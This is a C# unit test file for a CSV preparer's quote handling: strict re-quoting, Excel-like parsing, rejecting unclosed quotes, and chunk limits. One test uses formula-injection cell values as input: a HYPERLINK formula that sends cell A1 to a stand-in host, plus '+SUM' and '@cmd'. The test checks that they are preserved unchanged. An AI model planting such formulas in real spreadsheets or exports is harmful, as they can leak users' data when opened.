using System.Text;
using ZuoraJobFlows.Workflow.Csv;

namespace ZuoraJobFlows.Workflow.Tests.Csv;

/// <summary>
/// The quote rule of RFC 4180 and spreadsheets: a quote opens quoting only at the start of a field; other quotes
/// are literal; text after a closing quote is appended. Chunks must be valid strict CSV with the values unchanged.
/// </summary>
public class CsvPreparerQuoteTests
{
    private const string Hyperlink = "=HYPERLINK(\"http://example.invalid/?x=\"&A1;\"open\")";

    [Fact]
    public async Task PrepareAsync_FormulaCells_ChunkIsStrictCsvWithRowTwoValueIntact()
    {
        var input = CsvTestFiles.Case("formula-cells.csv");
        var lines = Encoding.UTF8.GetString(input).Split("\r\n");

        var prepared = await CsvTestFiles.PrepareAsync(input);

        Assert.True(prepared.Result.Accepted, prepared.Result.RejectionReason);
        Assert.Equal(3, prepared.Result.Records);
        var records = StrictCsv.ParseChunks(prepared);
        Assert.Equal(4, records.Count);
        Assert.Equal([Hyperlink, "X1", "2024", "ZZZZZZZZZZZZZ0010", "white", "1", "2024-01-01", "true"], records[1]);
        Assert.Equal("+SUM(1;1)", records[2][0]);
        Assert.Equal("@cmd", records[3][0]);
        Assert.Equal(
            string.Join("\r\n", lines[0], "\"" + Hyperlink.Replace("\"", "\"\"") + "\"" + lines[1][Hyperlink.Length..],
                lines[2], lines[3], ""),
            prepared.ChunkText(0));
    }

    [Theory]
    [InlineData(',')]
    [InlineData(';')]
    public async Task PrepareAsync_QuotesInsideUnquotedFields_ReEmittedQuotedWithValuesUnchanged(char d)
    {
        var input = Encoding.UTF8.GetBytes(
            $"a{d}b{d}c\n1{d}say \"hi\"{d}x\n2{d}5\" pipe{d}\"q\"\n3{d}ab\"{d}\"\"\n4{d}plain{d}\"ok, fine\"\n");

        var prepared = await CsvTestFiles.PrepareAsync(input);

        Assert.True(prepared.Result.Accepted, prepared.Result.RejectionReason);
        Assert.Equal(d, prepared.Result.Delimiter);
        Assert.Equal(
            "a,b,c\n1,\"say \"\"hi\"\"\",x\n2,\"5\"\" pipe\",\"q\"\n3,\"ab\"\"\",\"\"\n4,plain,\"ok, fine\"\n",
            prepared.ChunkText(0));
        Assert.Equal(
            [["a", "b", "c"], ["1", "say \"hi\"", "x"], ["2", "5\" pipe", "q"], ["3", "ab\"", ""],
                ["4", "plain", "ok, fine"]],
            StrictCsv.ParseChunks(prepared));
    }

    [Theory]
    [InlineData(',')]
    [InlineData(';')]
    public async Task PrepareAsync_TextAfterClosingQuote_AppendedToValueLikeExcel(char d)
    {
        var input = Encoding.UTF8.GetBytes($"a{d}b\n\"ab\"cd{d}1\n\"x{d}\"\"y\"\" z\"tail\"end{d}2\n\"\"lead{d}3\n");

        var prepared = await CsvTestFiles.PrepareAsync(input);

        Assert.True(prepared.Result.Accepted, prepared.Result.RejectionReason);
        Assert.Equal(
            [["a", "b"], ["abcd", "1"], [$"x{d}\"y\" ztail\"end", "2"], ["lead", "3"]],
            StrictCsv.ParseChunks(prepared));
    }

    [Theory]
    [InlineData(16)]
    [InlineData(1024 * 1024)]
    public async Task PrepareAsync_StrayQuoteMidField_NoFalseUnterminatedQuote(int bufferSize)
    {
        var input = "a,b\r\nx\"y,1\r\n2,3\"\r\n4,\"5\"\r\n"u8.ToArray();

        var prepared = await CsvTestFiles.PrepareAsync(input, bufferSize: bufferSize);

        Assert.True(prepared.Result.Accepted, prepared.Result.RejectionReason);
        Assert.Equal(3, prepared.Result.Records);
        Assert.Equal(new ChunkInfo(0, 2, 4, 3, prepared.Chunks[0].Length), prepared.Result.Chunks[0]);
        Assert.Equal([["a", "b"], ["x\"y", "1"], ["2", "3\""], ["4", "5"]], StrictCsv.ParseChunks(prepared));
    }

    [Theory]
    [InlineData("a,b\nx\"y,\"open\n2,3\n", 2, 2)]
    [InlineData("a,b\n1,2\n3,\"open\n4,5\n", 3, 3)]
    [InlineData("a;b\n\"x\ny\";2;\"z\n5;6\n", 2, 3)]
    [InlineData("a,b\n1,\"ok\"\"\n", 2, 2)]
    public async Task PrepareAsync_QuoteAtFieldStartNeverClosed_RejectsNamingRowAndLine(
        string text, long row, long line)
    {
        var prepared = await CsvTestFiles.PrepareAsync(Encoding.UTF8.GetBytes(text), bufferSize: 16);

        Assert.False(prepared.Result.Accepted);
        Assert.Equal(row, prepared.Result.Rejection!.Row);
        Assert.Equal(line, prepared.Result.Rejection.Line);
        Assert.Contains($"Row {row} has a quote opened on line {line}", prepared.Result.RejectionReason,
            StringComparison.Ordinal);
    }

    [Fact]
    public async Task PrepareAsync_CanonicalQuotedCommaFile_StillCopiedByteForByte()
    {
        var input = "a,b\r\n\"x,\"\"y\"\"\",1\r\n\"multi\r\nline\",2\r\nplain,3\r\n"u8.ToArray();

        var prepared = await CsvTestFiles.PrepareAsync(input, bufferSize: 16);

        Assert.True(prepared.Result.Accepted, prepared.Result.RejectionReason);
        Assert.Equal(input, Assert.Single(prepared.Chunks));
    }

    [Fact]
    public async Task PrepareAsync_NonCanonicalRecordsAcrossTinyChunks_LimitKeptAndRowsMapped()
    {
        var text = new StringBuilder("id,v\n");
        for (var i = 0; i < 200; i++)
        {
            text.Append(i).Append(i % 3 == 0 ? ",say \"hi\" there\n" : ",plain value\n");
        }

        var options = new CsvPrepareOptions { MaxChunkBytes = 120 };

        var prepared = await CsvTestFiles.PrepareAsync(Encoding.UTF8.GetBytes(text.ToString()), options, 16);

        Assert.True(prepared.Result.Accepted, prepared.Result.RejectionReason);
        Assert.All(prepared.Chunks, chunk => Assert.True(chunk.Length <= 120));
        Assert.All(prepared.Result.Chunks, chunk => Assert.Equal(prepared.Chunks[chunk.Index].Length, chunk.Bytes));
        var records = StrictCsv.ParseChunks(prepared);
        Assert.Equal(201, records.Count);
        Assert.Equal("say \"hi\" there", records[1 + 150][1]);
        var chunkOf150 = prepared.Result.Chunks.Single(chunk => chunk.FirstRow <= 152 && chunk.LastRow >= 152);
        var chunkRecords = StrictCsv.Parse(prepared.ChunkText(chunkOf150.Index));
        Assert.Equal("150", chunkRecords[(int)(152 - chunkOf150.FirstRow) + 1][0]);
    }

    [Theory]
    [InlineData(',', 16, 300)]
    [InlineData(',', 1024 * 1024, 100_000)]
    [InlineData(';', 16, 300)]
    [InlineData(';', 1024 * 1024, 100_000)]
    public async Task PrepareAsync_RandomQuotingStyles_ChunksAreStrictCsvWithSameValues(
        char delimiter, int bufferSize, long maxChunkBytes)
    {
        var file = QuotedCsvGenerator.Generate(new Random(7), delimiter, records: 400);
        var options = new CsvPrepareOptions { MaxChunkBytes = maxChunkBytes };

        var prepared = await CsvTestFiles.PrepareAsync(Encoding.UTF8.GetBytes(file.Text), options, bufferSize);

        Assert.True(prepared.Result.Accepted, prepared.Result.RejectionReason);
        Assert.Equal(400, prepared.Result.Records);
        Assert.All(prepared.Chunks, chunk => Assert.True(chunk.Length <= maxChunkBytes));
        Assert.Equal(file.Values, StrictCsv.ParseChunks(prepared));
    }
}
